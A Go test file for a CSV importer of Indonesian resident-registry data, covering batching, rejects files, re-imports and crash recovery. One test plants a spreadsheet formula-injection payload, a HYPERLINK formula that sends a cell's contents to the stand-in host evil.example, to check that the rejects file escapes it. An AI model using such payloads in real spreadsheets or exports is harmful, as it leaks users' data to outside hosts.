package siakimport

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/ikd-project/ikd/internal/ikdtest"
	"github.com/ikd-project/ikd/internal/store"
)

// storeLoader is the test Loader: one store transaction per batch, the
// way the lead's real Loader does it (minus the audit event).
type storeLoader struct {
	st      store.Store
	batches [][2]int // line ranges of the committed batches
	sizes   []int
	// after, when set, runs inside the transaction after LoadBatch; an
	// error rolls the batch back, like a crash before COMMIT.
	after func(batch int) error
}

func (l *storeLoader) LoadBatch(ctx context.Context, b *store.Batch, first, last int) (store.BatchResult, error) {
	var res store.BatchResult
	err := l.st.InTx(ctx, func(tx store.Tx) error {
		var err error
		if res, err = tx.LoadBatch(ctx, b); err != nil {
			return err
		}
		if l.after != nil {
			return l.after(len(l.batches))
		}
		return nil
	})
	if err == nil {
		l.batches = append(l.batches, [2]int{first, last})
		l.sizes = append(l.sizes, len(b.Penduduk))
	}
	return res, err
}

func importFile(t *testing.T, st store.Store, file string, opts Options) (Report, *storeLoader, error) {
	t.Helper()
	l := &storeLoader{st: st}
	opts.Loader = l
	if opts.Now.IsZero() {
		opts.Now = testNow
	}
	rep, err := Run(context.Background(), strings.NewReader(file), opts)
	return rep, l, err
}

func mustImport(t *testing.T, st store.Store, file string, opts Options) Report {
	t.Helper()
	rep, _, err := importFile(t, st, file, opts)
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	return rep
}

// residents returns every resident in NIK order, timestamps cleared.
func residents(t *testing.T, st store.Store) []store.Penduduk {
	t.Helper()
	var all []store.Penduduk
	after := ""
	for {
		page, err := st.ListPenduduk(context.Background(), store.PendudukFilter{AfterNIK: after, Limit: 500})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range page {
			p.CreatedAt, p.UpdatedAt = time.Time{}, time.Time{}
			all = append(all, p)
		}
		if len(page) < 500 {
			return all
		}
		after = page[len(page)-1].NIK
	}
}

// snapshot is the whole imported state: residents, their family cards and
// KK histories.
func snapshot(t *testing.T, st store.Store) string {
	t.Helper()
	ctx := context.Background()
	var b strings.Builder
	seen := map[string]bool{}
	for _, p := range residents(t, st) {
		fmt.Fprintf(&b, "%+v\n", p)
		h, err := st.RiwayatKK(ctx, p.NIK)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range h {
			fmt.Fprintf(&b, "  riwayat %s %s\n", r.NoKK, r.Hubungan)
		}
		if !seen[p.NoKK] {
			seen[p.NoKK] = true
			kk, err := st.GetKK(ctx, p.NoKK)
			if err != nil {
				t.Fatal(err)
			}
			kk.CreatedAt, kk.UpdatedAt = time.Time{}, time.Time{}
			fmt.Fprintf(&b, "  kk %+v\n", kk)
		}
	}
	return b.String()
}

func people(from, to int) []map[string]string {
	var rows []map[string]string
	for i := from; i < to; i++ {
		rows = append(rows, person(i))
	}
	return rows
}

func TestImportGoodAndBadRows(t *testing.T) {
	ikdtest.ForEachBackend(t, func(t *testing.T, st store.Store) {
		ctx := context.Background()
		// 10 good rows (families of 4, 4 and 2) and 3 bad ones at lines 4, 9 and 14.
		good := people(0, 10)
		var rows []map[string]string
		rows = append(rows, good[:2]...)                               // lines 2-3
		rows = append(rows, with(person(50), "NIK", "12345"))          // line 4
		rows = append(rows, good[2:6]...)                              // lines 5-8
		rows = append(rows, with(person(51), "TGL_LHR", "31-02-1990")) // line 9
		rows = append(rows, good[6:]...)                               // lines 10-13
		rows = append(rows, with(person(52), "AGAMA", ""))             // line 14
		// As Excel in an Indonesian locale saves it: BOM, ';' and CRLF.
		file := "\ufeff" + strings.ReplaceAll(csvFile(';', allColumns, rows...), "\n", "\r\n")

		var rejects bytes.Buffer
		rep := mustImport(t, st, file, Options{Rejects: &rejects, BatchSize: 4})
		if rep.Rows != 13 || rep.Imported != 10 || rep.Rejected != 3 || rep.Changed != 10 {
			t.Errorf("report rows %d imported %d rejected %d changed %d, want 13 10 3 10", rep.Rows, rep.Imported, rep.Rejected, rep.Changed)
		}
		if len(residents(t, st)) != 10 {
			t.Fatalf("%d residents, want 10", len(residents(t, st)))
		}

		// The rejects file: a header, then one record per bad row.
		r := csv.NewReader(&rejects)
		r.Comma = ';'
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("rejects file: %v\n%s", err, rejects.String())
		}
		if len(recs) != 4 {
			t.Fatalf("rejects file has %d records, want header + 3:\n%s", len(recs), rejects.String())
		}
		if got := strings.Join(recs[0], ";"); got != "line;column;code;alasan;reason;"+strings.Join(allColumns, ";") {
			t.Errorf("rejects header %q", got)
		}
		want := [][3]string{{"4", "NIK", CodeBadNIK}, {"9", "TGL_LHR", CodeBadDate}, {"14", "AGAMA", CodeMissingField}}
		for i, w := range want {
			rec := recs[i+1]
			if rec[0] != w[0] || rec[1] != w[1] || rec[2] != w[2] {
				t.Errorf("reject %d: %q, want %v", i, rec[:3], w)
			}
			if rec[3] == "" || rec[4] == "" || len(rec) != 5+len(allColumns) {
				t.Errorf("reject %d: reasons or fields missing: %q", i, rec)
			}
		}
		if recs[1][5] != "12345" {
			t.Errorf("the original fields are not kept: NIK %q", recs[1][5])
		}

		// The family cards: head and address from the head's row.
		kk, err := st.GetKK(ctx, person(0)["NO_KK"])
		if err != nil {
			t.Fatal(err)
		}
		if kk.KepalaNIK != person(0)["NIK"] || kk.Alamat != "JL. SUDIRMAN NO. 1" || kk.RT != "004" ||
			kk.DesaKode != "17.71.01.1001" || !kk.TanggalTerbit.Equal(time.Date(2015, 1, 1, 0, 0, 0, 0, time.UTC)) {
			t.Errorf("KK = %+v", kk)
		}

		// Re-importing the same file changes nothing and duplicates nothing.
		before := snapshot(t, st)
		rep = mustImport(t, st, file, Options{BatchSize: 4})
		if rep.Imported != 10 || rep.Changed != 0 {
			t.Errorf("re-import: imported %d changed %d, want 10 0", rep.Imported, rep.Changed)
		}
		if after := snapshot(t, st); after != before {
			t.Errorf("re-import changed the data:\n%s\nwant\n%s", after, before)
		}

		// A changed re-import updates by NIK.
		rows[1] = with(rows[1], "NAMA_LGKP", "siti aminah", "NO_HP", "+62 812 3456 7890")
		rep = mustImport(t, st, csvFile(';', allColumns, rows...), Options{BatchSize: 4})
		if rep.Changed != 1 {
			t.Errorf("changed re-import: changed %d, want 1", rep.Changed)
		}
		if n := len(residents(t, st)); n != 10 {
			t.Errorf("%d residents after a changed re-import, want 10", n)
		}
		p, err := st.GetPenduduk(ctx, person(1)["NIK"])
		if err != nil {
			t.Fatal(err)
		}
		if p.Nama != "SITI AMINAH" || p.Telepon != "081234567890" {
			t.Errorf("updated resident = %+v", p)
		}
	})
}

func TestImportKKChangeKeepsHistory(t *testing.T) {
	ikdtest.ForEachBackend(t, func(t *testing.T, st store.Store) {
		ctx := context.Background()
		mustImport(t, st, csvFile(',', allColumns, people(0, 8)...), Options{})
		// Person 3, a child of family 1, marries and heads a new family card.
		newKK := "1771012511220007"
		moved := people(0, 8)
		moved[3] = with(moved[3], "NO_KK", newKK, "STAT_HBKEL", "KEPALA KELUARGA", "STAT_KWN", "KAWIN", "ALAMAT", "JL. BARU 1")
		file := csvFile(',', allColumns, moved...)
		for run := 1; run <= 2; run++ {
			rep := mustImport(t, st, file, Options{})
			if want := map[int]int{1: 1, 2: 0}[run]; rep.PindahKK != want {
				t.Errorf("run %d: PindahKK %d, want %d", run, rep.PindahKK, want)
			}
			h, err := st.RiwayatKK(ctx, person(3)["NIK"])
			if err != nil {
				t.Fatal(err)
			}
			if len(h) != 1 || h[0].NoKK != person(3)["NO_KK"] || h[0].Hubungan != store.Anak {
				t.Errorf("run %d: riwayat = %+v, want one entry for the old KK as ANAK", run, h)
			}
			kk, err := st.GetKK(ctx, newKK)
			if err != nil {
				t.Fatal(err)
			}
			if kk.KepalaNIK != person(3)["NIK"] || kk.Alamat != "JL. BARU 1" {
				t.Errorf("new KK = %+v", kk)
			}
			members, err := st.ListAnggotaKK(ctx, person(0)["NO_KK"])
			if err != nil {
				t.Fatal(err)
			}
			if len(members) != 3 {
				t.Errorf("run %d: old KK has %d members, want 3", run, len(members))
			}
		}
	})
}

// TestImportCancelBetweenBatches cancels the import after the second batch:
// exactly the two whole batches stay, and a re-run completes the import.
func TestImportCancelBetweenBatches(t *testing.T) {
	ikdtest.ForEachBackend(t, func(t *testing.T, st store.Store) {
		file := csvFile(',', allColumns, people(0, 20)...)
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		l := &storeLoader{st: st}
		cancelling := LoaderFunc(func(ctx context.Context, b *store.Batch, first, last int) (store.BatchResult, error) {
			res, err := l.LoadBatch(ctx, b, first, last)
			if len(l.batches) == 2 {
				cancel()
			}
			return res, err
		})
		rep, err := Run(ctx, strings.NewReader(file), Options{Loader: cancelling, BatchSize: 4, Now: testNow})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
		if rep.Imported != 8 || rep.Batches != 2 {
			t.Errorf("imported %d in %d batches, want 8 in 2", rep.Imported, rep.Batches)
		}
		got := residents(t, st)
		if len(got) != 8 {
			t.Fatalf("%d residents after cancel, want 8", len(got))
		}
		want := map[string]bool{}
		for i := 0; i < 8; i++ {
			want[person(i)["NIK"]] = true
		}
		for _, p := range got {
			if !want[p.NIK] {
				t.Errorf("resident %s is not from the first two batches", p.NIK)
			}
		}
		rep = mustImport(t, st, file, Options{BatchSize: 4})
		if n := len(residents(t, st)); n != 20 || rep.Changed != 12 {
			t.Errorf("after re-run: %d residents, %d changed; want 20 and 12", n, rep.Changed)
		}
	})
}

// TestImportCrashAnyBatch is the kill -9 model: the process dies inside the
// transaction of batch k (nothing of it commits), for every k; re-running
// the file then gives exactly the state of a clean import.
func TestImportCrashAnyBatch(t *testing.T) {
	for _, backend := range ikdtest.Backends {
		t.Run(backend.Name, func(t *testing.T) {
			testCrashAnyBatch(t, func(t *testing.T) store.Store { return backend.Open(t, nil) })
		})
	}
}

func testCrashAnyBatch(t *testing.T, open func(t *testing.T) store.Store) {
	rows := people(0, 17)
	rows = append(rows, with(person(2), "ALAMAT", "JL. PINDAH 2")) // a NIK again in a later batch: it wins
	rows = append(rows, people(20, 23)...)
	file := csvFile(',', allColumns, rows...)

	ref := open(t)
	rep, refLoader, err := importFile(t, ref, file, Options{BatchSize: 4})
	if err != nil {
		t.Fatal(err)
	}
	nb := len(refLoader.batches)
	if nb != 5 {
		t.Errorf("%d batches (%v), want 5", nb, refLoader.sizes)
	}
	if rep.Imported != 21 || rep.Rejected != 0 {
		t.Fatalf("clean import: %d imported, %d rejected: %v", rep.Imported, rep.Rejected, rep.Errors)
	}
	want := snapshot(t, ref)
	if p, _ := ref.GetPenduduk(context.Background(), person(2)["NIK"]); p.Alamat != "JL. PINDAH 2" {
		t.Errorf("a NIK in a later batch did not update the resident: %q", p.Alamat)
	}

	crash := errors.New("kill -9")
	for k := 0; k < nb; k++ {
		t.Run(fmt.Sprintf("crash in batch %d", k), func(t *testing.T) {
			st := open(t)
			l := &storeLoader{st: st, after: func(batch int) error {
				if batch == k {
					return crash
				}
				return nil
			}}
			_, err := Run(context.Background(), strings.NewReader(file), Options{Loader: l, BatchSize: 4, Now: testNow})
			if !errors.Is(err, crash) {
				t.Fatalf("err = %v, want the crash", err)
			}
			if n, committed := len(residents(t, st)), sum(l.sizes); n != committed {
				t.Errorf("%d residents after the crash, but %d in committed batches", n, committed)
			}
			// A crash halfway through a second run, then a complete run.
			l.after, l.batches = func(batch int) error {
				if batch == nb-1-k {
					return crash
				}
				return nil
			}, nil
			Run(context.Background(), strings.NewReader(file), Options{Loader: l, BatchSize: 4, Now: testNow})
			mustImport(t, st, file, Options{BatchSize: 4})
			if got := snapshot(t, st); got != want {
				t.Errorf("after re-run:\n%s\nwant\n%s", got, want)
			}
		})
	}
}

func sum(xs []int) int {
	n := 0
	for _, x := range xs {
		n += x
	}
	return n
}

func TestImportBatching(t *testing.T) {
	ikdtest.ForEachBackend(t, func(t *testing.T, st store.Store) {
		ctx := context.Background()
		// Families of four with a batch size of 3: a batch is not cut
		// inside a family.
		rows := people(0, 12)
		// The same NIK twice in one batch: the second is rejected.
		rows = append(rows[:2], append([]map[string]string{with(person(1), "NAMA_LGKP", "KEDUA")}, rows[2:]...)...)
		// A member of family 1 far from it, after the other families,
		// and a second head for family 2.
		rows = append(rows, with(person(1000), "NO_KK", person(0)["NO_KK"], "STAT_HBKEL", "ANAK", "STAT_KWN", "BELUM KAWIN", "ALAMAT", "JL. LAIN"))
		rows = append(rows, with(person(1004), "NO_KK", person(4)["NO_KK"]))
		// Family 9: two members, then (in a later batch) its head.
		rows = append(rows, with(person(2001), "NO_KK", "1771010000000009", "ALAMAT", "JL. ANGGOTA"))
		rows = append(rows, people(12, 16)...)
		rows = append(rows, with(person(2000), "NO_KK", "1771010000000009", "ALAMAT", "JL. KEPALA", "TGL_KK", "02-02-2016"))
		rep, l, err := importFile(t, st, csvFile(',', allColumns, rows...), Options{BatchSize: 3})
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(l.sizes, []int{4, 4, 4, 6, 1}) {
			t.Errorf("batch sizes %v, want [4 4 4 6 1]", l.sizes)
		}
		if !reflect.DeepEqual(l.batches, [][2]int{{2, 6}, {7, 10}, {11, 14}, {15, 21}, {22, 22}}) {
			t.Errorf("batch lines %v", l.batches)
		}
		kk9, err := st.GetKK(ctx, "1771010000000009")
		if err != nil {
			t.Fatal(err)
		}
		if kk9.KepalaNIK != person(2000)["NIK"] || kk9.Alamat != "JL. KEPALA" || kk9.TanggalTerbit.Year() != 2016 {
			t.Errorf("KK written before its head's row = %+v, want the head's data", kk9)
		}
		if len(rep.Errors) != 2 {
			t.Fatalf("errors %+v, want 2", rep.Errors)
		}
		if e := rep.Errors[0]; e.Line != 4 || e.Code != CodeDuplicateNIK || !strings.Contains(e.ID, "baris 3") || !strings.Contains(e.EN, "line 3") {
			t.Errorf("duplicate NIK error %+v", e)
		}
		if e := rep.Errors[1]; e.Line != 16 || e.Code != CodeDuplicateHead || !strings.Contains(e.EN, "line 7") {
			t.Errorf("second head error %+v", e)
		}
		if p, _ := st.GetPenduduk(ctx, person(1)["NIK"]); p.Nama != person(1)["NAMA_LGKP"] {
			t.Errorf("the first of two rows with one NIK must win in a batch: %q", p.Nama)
		}
		// Family 1's card keeps its head although its last member came in a
		// batch without the head's row.
		kk, err := st.GetKK(ctx, person(0)["NO_KK"])
		if err != nil {
			t.Fatal(err)
		}
		if kk.KepalaNIK != person(0)["NIK"] || kk.Alamat != "JL. SUDIRMAN NO. 1" {
			t.Errorf("KK = %+v, want head %s at JL. SUDIRMAN NO. 1 (a member elsewhere in the file must not change it)", kk, person(0)["NIK"])
		}
		if n, _ := st.ListAnggotaKK(ctx, person(0)["NO_KK"]); len(n) != 5 {
			t.Errorf("family 1 has %d members, want 5", len(n))
		}
	})
}

// TestImportHeadRowAgain: a head's row that comes again in a later batch
// updates the resident and the family card (the later row wins).
func TestImportHeadRowAgain(t *testing.T) {
	ikdtest.ForEachBackend(t, func(t *testing.T, st store.Store) {
		rows := append(people(0, 8), with(person(0), "ALAMAT", "JL. BARU 9", "NO_RT", "7", "TGL_KK", "03-03-2020"))
		rep := mustImport(t, st, csvFile(',', allColumns, rows...), Options{BatchSize: 4})
		if rep.Imported != 9 || rep.Rejected != 0 {
			t.Fatalf("imported %d rejected %d: %v", rep.Imported, rep.Rejected, rep.Errors)
		}
		ctx := context.Background()
		kk, err := st.GetKK(ctx, person(0)["NO_KK"])
		if err != nil {
			t.Fatal(err)
		}
		if kk.KepalaNIK != person(0)["NIK"] || kk.Alamat != "JL. BARU 9" || kk.RT != "007" || kk.TanggalTerbit.Year() != 2020 {
			t.Errorf("KK = %+v, want the head's later row", kk)
		}
		if p, _ := st.GetPenduduk(ctx, person(0)["NIK"]); p.Alamat != "JL. BARU 9" {
			t.Errorf("resident address %q", p.Alamat)
		}
	})
}

// TestRejectsFileIsSafeInSpreadsheets rejects a row whose cells would run as
// formulas in Excel: the rejects file carries them as text, and a corrected
// rejects file imports with the values as they were.
func TestRejectsFileIsSafeInSpreadsheets(t *testing.T) {
	st := ikdtest.NewStore(t)
	p := person(0)
	p["NIK"] = "12345" // rejected
	p["NAMA_LGKP"] = `=HYPERLINK("http://evil.example/?"&F2,"klik")`
	p["NO_HP"] = "+6281234567890"
	var rejects bytes.Buffer
	rep := mustImport(t, st, csvFile(',', allColumns, p), Options{Rejects: &rejects})
	if rep.Rejected != 1 {
		t.Fatalf("rejected %d, want 1", rep.Rejected)
	}
	recs, err := csv.NewReader(&rejects).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := strings.Join(recs[1], "|")
	if !strings.Contains(row, `|'=HYPERLINK(`) || !strings.Contains(row, "|'+6281234567890") {
		t.Fatalf("formula cells not guarded in the rejects file: %s", row)
	}
	// Correct the NIK and import the rejects file itself.
	for i, h := range recs[0] {
		if h == "NIK" {
			recs[1][i] = person(0)["NIK"]
		}
		if h == "NAMA_LGKP" {
			recs[1][i] = "SITI AMINAH"
		}
	}
	var fixed bytes.Buffer
	csv.NewWriter(&fixed).WriteAll(recs)
	rep = mustImport(t, st, fixed.String(), Options{})
	if rep.Imported != 1 {
		t.Fatalf("re-import of the corrected rejects file: %+v", rep)
	}
	got, err := st.GetPenduduk(context.Background(), person(0)["NIK"])
	// The guarded phone number '+62... comes back as +62... and is normalised.
	if err != nil || got.Telepon != "081234567890" || got.Nama != "SITI AMINAH" {
		t.Errorf("re-imported resident: %q %q, %v", got.Nama, got.Telepon, err)
	}
}
